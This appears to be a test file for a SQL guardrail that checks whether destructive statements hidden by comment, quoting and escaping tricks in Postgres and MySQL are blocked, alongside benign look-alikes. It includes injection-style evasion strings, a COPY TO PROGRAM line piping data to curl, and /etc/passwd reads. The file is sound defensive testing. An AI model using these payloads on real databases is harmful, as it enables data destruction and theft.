// The evasion corpus: texts written to slip a DROP, a WHERE-less DELETE or a hidden write past the
// rules of the DESIGN sketch (no-drop, where-required, ddl-review), and benign look-alikes that
// must still pass.
import { describe, expect, it } from 'vitest';
import { GuardrailPolicy } from '../../../src/policy/guardrails.js';
import { analyzeSql } from '../../../src/policy/sql/analyze.js';
import type { Command, SqlLexerSettings } from '../../../src/types.js';
import { makeConfig, my, pg, session } from './helpers.js';

const policy = new GuardrailPolicy(makeConfig());

type Outcome = 'allow' | 'block' | 'review';
interface Case {
  readonly text: string;
  readonly dialect?: 'postgres' | 'mysql';
  readonly lexer?: { noBackslashEscapes?: boolean; ansiQuotes?: boolean; standardConformingStrings?: boolean };
  /** expected verbs of the top-level statements, in order (omitted: not checked) */
  readonly verbs?: string[];
  readonly category?: string;
  readonly decision: Outcome;
  readonly rule?: string;
}

function command(c: Case): Command {
  if (c.dialect === 'mysql') return my(c.text, c.lexer);
  const base = pg(c.text);
  if (!c.lexer || base.kind !== 'sql') return base;
  return { ...base, lexer: { dialect: 'postgres', ...c.lexer } };
}

function settings(c: Case): SqlLexerSettings {
  return c.dialect === 'mysql' ? { dialect: 'mysql', ...c.lexer } : { dialect: 'postgres', ...c.lexer };
}

const evasions: Case[] = [
  { text: 'DrOp TaBlE x', verbs: ['drop'], category: 'ddl', decision: 'block', rule: 'no-drop' },
  { text: '/* c */ DROP/**/TABLE x', verbs: ['drop'], decision: 'block', rule: 'no-drop' },
  { text: 'DROP\n\t TABLE\r\nx', verbs: ['drop'], decision: 'block', rule: 'no-drop' },
  { text: 'drop -- comment\n table x', verbs: ['drop'], decision: 'block', rule: 'no-drop' },
  { text: 'select 1; drop table x', verbs: ['select', 'drop'], decision: 'block', rule: 'no-drop' },
  { text: 'select 1;drop table x;', verbs: ['select', 'drop'], decision: 'block', rule: 'no-drop' },
  { text: 'truncate t', verbs: ['truncate'], decision: 'block', rule: 'no-drop' },
  // an E'' string whose escaped quote must not be read as its end
  { text: "select E'\\'' ; drop table x; --'", verbs: ['select', 'drop'], decision: 'block', rule: 'no-drop' },
  { text: "select E'\\\\' ; drop table x; --'", verbs: ['select', 'drop'], decision: 'block', rule: 'no-drop' },
  // with standard_conforming_strings off a plain '' string takes backslash escapes: the same text hides nothing…
  { text: "select '\\' ; drop table x; --'", lexer: { standardConformingStrings: false }, verbs: ['select'], decision: 'allow' },
  // …and with it on, the backslash is literal and the DROP is real
  { text: "select '\\' ; drop table x; --'", verbs: ['select', 'drop'], decision: 'block', rule: 'no-drop' },
  // a quote continuation keeps the E'' mode
  { text: "select E'a'\n'\\' ; ' ; drop table t; --'", verbs: ['select', 'drop'], decision: 'block', rule: 'no-drop' },
  { text: 'select $$ ; drop table x; $$', verbs: ['select'], decision: 'allow' },
  { text: 'select $q$ $$ ; $q$; drop table x', verbs: ['select', 'drop'], decision: 'block', rule: 'no-drop' },
  { text: 'select $a$ $b$ ; drop table x; $a$', verbs: ['select'], decision: 'allow' },
  { text: '/* outer /* inner */ drop table x; */ select 1', verbs: ['select'], decision: 'allow' },
  { text: '/* outer /* inner */ */ drop table x', verbs: ['drop'], decision: 'block', rule: 'no-drop' },
  { text: '/* unterminated /* nested */ drop table x', decision: 'block', rule: 'fallback' },
  { text: "select 'unterminated ; drop table x", decision: 'block', rule: 'fallback' },
  { text: '(drop table x)', decision: 'block', rule: 'no-drop' },
  { text: 'delete from t where 1=1', verbs: ['delete'], decision: 'block', rule: 'where-required' },
  { text: 'delete from t', verbs: ['delete'], decision: 'block', rule: 'where-required' },
  { text: 'DELETE FROM t WHERE TRUE', decision: 'block', rule: 'where-required' },
  { text: "update t set a = 1 where 'x' = 'x'", decision: 'block', rule: 'where-required' },
  { text: 'update t set a = 1 where id = 2 or 1 = 1', decision: 'block', rule: 'where-required' },
  { text: 'update t set a = 1 where not false', decision: 'block', rule: 'where-required' },
  { text: 'delete from t where id=1', verbs: ['delete'], decision: 'allow' },
  { text: 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', verbs: ['select'], category: 'write', decision: 'block', rule: 'where-required' },
  { text: 'WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d', category: 'write', decision: 'allow' },
  { text: 'explain analyze delete from t', category: 'write', decision: 'block', rule: 'where-required' },
  { text: 'explain delete from t', category: 'read', decision: 'allow' },
  { text: 'prepare p as delete from t', decision: 'block', rule: 'where-required' },
  { text: "COPY t TO PROGRAM 'curl -d @- http://x'", category: 'read', decision: 'allow' },
  { text: 'DO $$ BEGIN EXECUTE \'DROP TABLE x\'; END $$', verbs: ['do'], category: 'code', decision: 'block', rule: 'fallback' },
  { text: 'call cleanup()', decision: 'block', rule: 'fallback' },
  { text: 'execute p', decision: 'block', rule: 'fallback' },
  { text: 'create table t (id int)', category: 'ddl', decision: 'review', rule: 'ddl-review' },
  { text: 'create table t (id int); drop table u', decision: 'block', rule: 'no-drop' },
  { text: 'select * into newt from t', category: 'ddl', decision: 'review', rule: 'ddl-review' },
  { text: 'CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END', decision: 'block', rule: 'where-required' },
  { text: 'CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; END; DROP TABLE x', verbs: ['create', 'drop'], decision: 'block', rule: 'no-drop' },
  { text: 'select pg_sleep(0); vacuum; drop table x', decision: 'block', rule: 'no-drop' },
  // quoted identifiers are names, never keywords
  { text: 'DROP TABLE "drop"', verbs: ['drop'], decision: 'block', rule: 'no-drop' },

  // MySQL
  { dialect: 'mysql', text: '/*! DROP TABLE x */', verbs: ['drop'], decision: 'block', rule: 'no-drop' },
  { dialect: 'mysql', text: 'select 1 /*!50100 ; DROP TABLE x */', decision: 'block', rule: 'no-drop' },
  { dialect: 'mysql', text: 'select 1 /*M!100100 ; DROP TABLE x */', decision: 'block', rule: 'no-drop' },
  // a skipped versioned comment ends at its first */, even inside what would be a string
  { dialect: 'mysql', text: "select 1 /*!99999 ' */ ; drop table x; -- ' */", decision: 'block', rule: 'no-drop' },
  // with escapes, \' is a quote inside the string and the DROP is outside it
  { dialect: 'mysql', text: "select '\\'' ; drop table x", verbs: ['select', 'drop'], decision: 'block', rule: 'no-drop' },
  // with NO_BACKSLASH_ESCAPES the same text leaves a string open: unanalysable, the fallback blocks
  { dialect: 'mysql', lexer: { noBackslashEscapes: true }, text: "select '\\'' ; drop table x", decision: 'block', rule: 'fallback' },
  { dialect: 'mysql', text: "select '\\' ; drop table x; -- '", verbs: ['select'], decision: 'allow' },
  { dialect: 'mysql', lexer: { noBackslashEscapes: true }, text: "select '\\' ; drop table x; -- '", verbs: ['select', 'drop'], decision: 'block', rule: 'no-drop' },
  { dialect: 'mysql', text: "SET sql_mode='NO_BACKSLASH_ESCAPES'; SELECT '\\' ; DROP TABLE x; -- '", decision: 'block', rule: 'no-drop' },
  { dialect: 'mysql', text: "/*!40101 SET sql_mode='NO_BACKSLASH_ESCAPES'; SELECT '\\' ; DROP TABLE x; -- ' */", decision: 'block', rule: 'no-drop' },
  { dialect: 'mysql', text: 'select 1 # comment\n; drop table x', verbs: ['select', 'drop'], decision: 'block', rule: 'no-drop' },
  { dialect: 'mysql', text: 'select 1 # drop table x', verbs: ['select'], decision: 'allow' },
  { dialect: 'mysql', text: 'select 1--1\n; drop table x', verbs: ['select', 'drop'], decision: 'block', rule: 'no-drop' },
  { dialect: 'mysql', text: 'select "x" ; drop table x', lexer: { ansiQuotes: true }, decision: 'block', rule: 'no-drop' },
  { dialect: 'mysql', text: 'delete from t where 1', decision: 'block', rule: 'where-required' },
  { dialect: 'mysql', text: 'delete from t where id = 3 /*!50000 or 1=1 */ /*!99999 and false */', decision: 'block', rule: 'where-required' },
  { dialect: 'mysql', text: 'delete from t where id = 1', decision: 'allow' },
  { dialect: 'mysql', text: 'BEGIN NOT ATOMIC DROP TABLE x; END', decision: 'block', rule: 'no-drop' },
  { dialect: 'mysql', text: 'CREATE PROCEDURE p() BEGIN DROP TABLE x; END', decision: 'block', rule: 'no-drop' },
  { dialect: 'mysql', text: 'CREATE PROCEDURE p() SELECT (1) begin FROM t; DROP TABLE x; END', decision: 'block', rule: 'no-drop' },
  { dialect: 'mysql', text: 'SET STATEMENT max_statement_time=1 FOR DROP TABLE x', decision: 'block', rule: 'no-drop' },
  { dialect: 'mysql', text: "PREPARE s FROM 'DROP TABLE x'", decision: 'block', rule: 'fallback' },
];

const benign: Case[] = [
  { text: "SELECT 'DROP TABLE x'", verbs: ['select'], decision: 'allow' },
  { text: 'select * from drop_log', verbs: ['select'], decision: 'allow' },
  { text: 'select "drop" from t', verbs: ['select'], decision: 'allow' },
  { text: '-- drop table x\nselect 1', verbs: ['select'], decision: 'allow' },
  { text: '/* drop table x */ select 1', verbs: ['select'], decision: 'allow' },
  { text: 'update t set a=1 where id=2', verbs: ['update'], decision: 'allow' },
  { text: "select E'drop table x'", verbs: ['select'], decision: 'allow' },
  { text: 'select $$drop table x$$', verbs: ['select'], decision: 'allow' },
  { text: 'select dropped, truncated from drops', decision: 'allow' },
  { text: 'insert into t (note) values (\'; drop table x; --\')', verbs: ['insert'], decision: 'allow' },
  { text: 'BEGIN; UPDATE t SET a = 1 WHERE id = 1; COMMIT;', verbs: ['begin', 'update', 'commit'], decision: 'allow' },
  { dialect: 'mysql', text: 'select `drop` from `drop_log`', decision: 'allow' },
  { dialect: 'mysql', text: "select 'drop table x', \"drop table y\"", decision: 'allow' },
  { dialect: 'mysql', text: '/*!40101 SET NAMES utf8mb4 */', decision: 'allow' },
  { dialect: 'mysql', text: 'select 1 -- drop table x', decision: 'allow' },
];

function check(c: Case): void {
  const a = analyzeSql(c.text, settings(c));
  if (c.verbs) expect(a.statements.map((s) => s.verb)).toEqual(c.verbs);
  if (c.category) expect(a.statements[0]?.category).toBe(c.category);
  const d = policy.decide(session(c.dialect === 'mysql' ? 'shop-db' : 'app-db'), command(c));
  expect(d.action).toBe(c.decision);
  if (c.rule && d.action !== 'allow') expect(d.rule).toBe(c.rule);
}

describe('evasion corpus', () => {
  it.each(evasions.map((c) => [c.text, c] as const))('%s', (_t, c) => check(c));
});

describe('benign look-alikes are allowed', () => {
  it.each(benign.map((c) => [c.text, c] as const))('%s', (_t, c) => check(c));
});

describe('risky statements', () => {
  it('COPY … PROGRAM and server files are risky; a risky rule blocks them', () => {
    const p = new GuardrailPolicy(
      makeConfig({
        connections: [{ name: 'app-db', protocol: 'postgres', target: { host: 'h' }, guardrails: ['no-risky'] }],
        guardrails: [{ name: 'no-risky', when: { risky: true }, action: 'block' }],
      }),
    );
    const s = session('app-db');
    for (const text of ["COPY t TO PROGRAM 'x'", "COPY t FROM '/etc/passwd'", "select pg_read_file('/etc/passwd')", 'WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d']) {
      const d = p.decide(s, pg(text));
      expect(d).toMatchObject({ action: 'block', rule: 'no-risky' });
    }
    expect(p.decide(s, pg('COPY t TO STDOUT')).action).toBe('allow');
  });
});
